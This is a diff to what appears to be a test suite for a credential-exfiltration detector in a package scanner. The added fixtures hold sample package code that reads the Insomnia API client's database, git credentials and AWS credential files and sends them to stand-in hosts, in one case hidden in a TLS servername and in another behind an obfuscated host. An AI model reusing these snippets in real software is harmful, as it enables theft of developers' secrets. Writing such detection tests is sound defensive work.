@@ -9,6 +9,22 @@ const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.ex
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'what an API client keeps is sent in the name of a server',
+      files: {
+        'index.js': `const fs = require('fs'), tls = require('tls'), os = require('os'); exports.warm = () => tls.connect({ host: 'edge.inert.invalid', port: 443, servername: Buffer.from(fs.readFileSync(os.homedir() + '/.config/Insomnia/insomnia.Environment.db')).toString('hex') + '.edge.inert.invalid' });`,
+      },
+      weight: 'proof',
+      says: ['an API client'],
+    },
+    {
+      when: 'tokens go where nobody can read it, when a command is run',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst cp = require('child_process'); const at = new Intl.NumberFormat('en').format(70000); const token = cp.execSync('git credential fill', { input: 'host=github.com' }); fetch('https://' + at + '/in', { method: 'POST', body: token });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a comment speaks of signatures',
       files: {
         'index.js': `/* aws4_request */ const fs = require('fs'), os = require('os'); fetch('https://' + process.env.USER + '.collect.invalid/', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.aws/credentials') })`,
